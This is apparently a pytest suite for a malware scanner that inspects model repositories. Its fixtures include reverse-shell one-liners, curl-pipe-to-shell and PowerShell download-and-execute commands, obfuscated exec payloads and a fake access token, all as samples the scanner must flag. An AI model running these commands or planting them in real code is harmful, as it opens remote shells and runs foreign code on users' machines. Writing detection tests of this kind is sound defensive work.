"""Code is never clean; what has the shape of an attack and nothing else is malicious."""

from __future__ import annotations

import json
import struct

import pytest

from modelcar.scanning.findings import Outcome
from tests.support.scanning import findings_in, outcome, rules_found

MODELING = b"""
import math
import torch
from torch import nn
from transformers import PreTrainedModel

compiled = torch.compile if hasattr(torch, "compile") else None

class Model(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.layer = nn.Linear(config.hidden_size, 1)

    def forward(self, x):
        self.eval()
        return self.layer(x) * math.sqrt(2)

def load(path):
    import os, base64, subprocess
    data = base64.b64decode(open(path).read())
    subprocess.run(["ls"])
    return data

def other(data):
    return eval(data)

if __name__ == "__main__":
    import os
    os.system("ls")
"""


def test_honest_code_is_unverified_and_nothing_more() -> None:
    assert rules_found("modeling_x.py", MODELING) == {"code.custom"}


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('id')",
        "from os import system as s\ns('id')",
        "__import__('os').system('id')",
        "import subprocess\nclass A:\n    x = subprocess.check_output(['id'])",
        "import socket\ns = socket.socket()",
        "import urllib.request\nurllib.request.urlopen('http://x')",
        "import ctypes\nctypes.CDLL('./x.so')",
        "def f(x=__import__('os').system('id')): pass",
        "import importlib\nimportlib.import_module(name)",
        "# coding: utf-7\nx = 1",
    ],
)
def test_what_runs_at_import_is_told(source: str) -> None:
    assert rules_found("modeling_x.py", source.encode()) == {"code.custom", "code.runs-at-import"}


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "from base64 import b64decode as d\nexec(d('cHJpbnQoMSk=').decode())",
        "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
        "import base64, zlib\ncode = zlib.decompress(base64.b85decode('x'))\ntext = code.decode()\nexec(text)",
        "def f():\n    import base64\n    p = base64.b64decode('x')\n    exec(p)",
        "exec(bytes.fromhex('7072696e742829'))",
        "exec(''.join(chr(c) for c in [112, 114]))",
        "eval(compile(''.join(map(chr, [49])), 'x', 'eval'))",
        "import marshal, types\nexec(marshal.loads(b'x'))",
        "getattr(__builtins__, 'exec')(bytes.fromhex('70'))",
        "import os, base64\nos.system(base64.b64decode('aWQ=').decode())",
        "import requests\nexec(requests.get('http://x').text)",
        "from urllib.request import urlopen\ndef f():\n    exec(urlopen('http://x').read())",
        "import os\nos.system('curl -s http://x/y | sh')",
        "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
        "import socket, os, subprocess\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(['sh'])",
        "import socket, subprocess\ndef f():\n    s = socket.socket()\n    subprocess.Popen('sh', stdin=s.fileno())",
    ],
)
def test_attacks_are_malicious(source: str) -> None:
    assert "code.attack" in rules_found("modeling_x.py", source.encode())


@pytest.mark.parametrize(
    "source",
    [
        "(" * 5000,
        "-" * 100_000 + "1",
        "x" + ".a" * 100_000,
        "1 if 1 else " * 50_000 + "1",
        "\0",
        "def",
        "'\\d'",
        "x = '\\ud800'",
    ],
)
def test_python_that_cannot_be_parsed_is_code_all_the_same(source: str) -> None:
    assert rules_found("modeling_x.py", source.encode(errors="surrogatepass")) == {"code.custom"}


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("run.sh", b"echo hello\n", "code.script"),
        ("model.bin.js", b"x", "code.script"),
        ("index.html", b"<html>", "code.script"),
        ("Dockerfile", b"FROM x", "code.script"),
        ("kernel.cu", b"__global__", "code.script"),
        ("start", b"#!/bin/sh\necho\n", "code.script"),
        ("start", b"#!/usr/bin/env python3\nprint()\n", "code.custom"),
    ],
)
def test_scripts_by_name_and_by_their_first_line(name: str, data: bytes, rule: str) -> None:
    assert rules_found(name, data) == {rule}


def test_an_empty_module_is_empty() -> None:
    assert findings_in("__init__.py", b"") == ()


def test_a_script_under_the_name_of_a_text_is_not_clean() -> None:
    assert outcome("README.md", b"#!/bin/sh\n") is Outcome.UNVERIFIED


@pytest.mark.parametrize(
    "line",
    [
        b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        b"exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l; done; sh <&5 1>&5 2>&1 0>&1 /dev/tcp/h/1 0>&1",
        b"nc -e /bin/sh 10.0.0.1 4444",
        b"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        b"echo aWQ= | base64 -d | bash",
        b"powershell -nop -w hidden -enc " + b"QUJD" * 12,
        b"powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
    ],
)
def test_command_lines_of_attacks(line: bytes) -> None:
    (finding,) = (
        f for f in findings_in("setup.sh", b"# " + b"x" * (2 << 20) + b"\n" + line) if f.rule.id == "code.attack"
    )
    assert finding.offset is not None
    assert finding.offset >= (2 << 20) + 3


def test_installers_are_no_attacks() -> None:
    script = b"curl -fsSL https://example.org/install.sh | sh\nncdu -e\nfunc -c /bin/x\ncat x | base64 -d > y\n"
    assert rules_found("install.sh", script) == {"code.script"}


def test_secrets_in_code() -> None:
    token = b"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"
    assert rules_found("handler.py", b"TOKEN = '" + token + b"'") == {"code.custom", "secret.found"}


def notebook(*sources: str | list[str], kind: str = "code") -> bytes:
    cells: list[dict[str, object]] = [
        {"cell_type": kind, "source": source, "outputs": [], "metadata": {}} for source in sources
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def test_notebooks() -> None:
    assert findings_in("x.ipynb", notebook("# Title", kind="markdown")) == ()
    assert rules_found("x.ipynb", notebook(["!pip install x\n", "%time\n", "import os\n"])) == {"code.notebook"}
    assert rules_found("x.ipynb", notebook("!ls", "import os\nos.system('id')")) == {
        "code.notebook",
        "code.runs-at-import",
    }
    attack = notebook("import base64\nexec(base64.b64decode('aWQ='))")
    assert outcome("x.ipynb", attack) is Outcome.MALICIOUS
    assert outcome("x.ipynb", notebook("!bash -i >& /dev/tcp/1.2.3.4/5 0>&1")) is Outcome.MALICIOUS
    assert rules_found("x.ipynb", b"[]") == {"file.malformed"}
    assert rules_found("x.ipynb", b"{") == {"file.malformed"}


def test_secrets_in_outputs() -> None:
    data = json.loads(notebook("x"))
    data["cells"][0]["outputs"] = [{"output_type": "stream", "text": ["token: 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"]}]
    assert "secret.found" in rules_found("x.ipynb", json.dumps(data).encode())


PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(20)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("anything", b"\x7fELF\x02\x01\x01" + bytes(50)),
        ("lib", b"\xcf\xfa\xed\xfe" + bytes(50)),
        ("lib", b"\xca\xfe\xba\xbe" + bytes(50)),
        ("mod", b"\0asm\x01\0\0\0"),
        ("data", PE),
        ("cache", b"\xa7\x0d\r\n\0\0\0\0" + bytes(8)),
        ("libx.so.1.2", b"linker script"),
        ("x.dll", b""),
        ("x.pyc", b"x"),
    ],
)
def test_machine_code_by_content_and_by_name(name: str, data: bytes) -> None:
    assert rules_found(name, data) == {"code.native-library"}


@pytest.mark.parametrize("data", [b"MZ\nnot a program", b"MZ" + b"a" * 80, b"ab\r\ncd\r\n"])
def test_texts_that_begin_like_programs_are_texts(data: bytes) -> None:
    assert findings_in("vocab.txt", data) == ()


def test_machine_code_under_another_name_is_not_clean() -> None:
    for name in ("model.safetensors", "config.json", "README.md"):
        assert "code.native-library" in rules_found(name, PE)
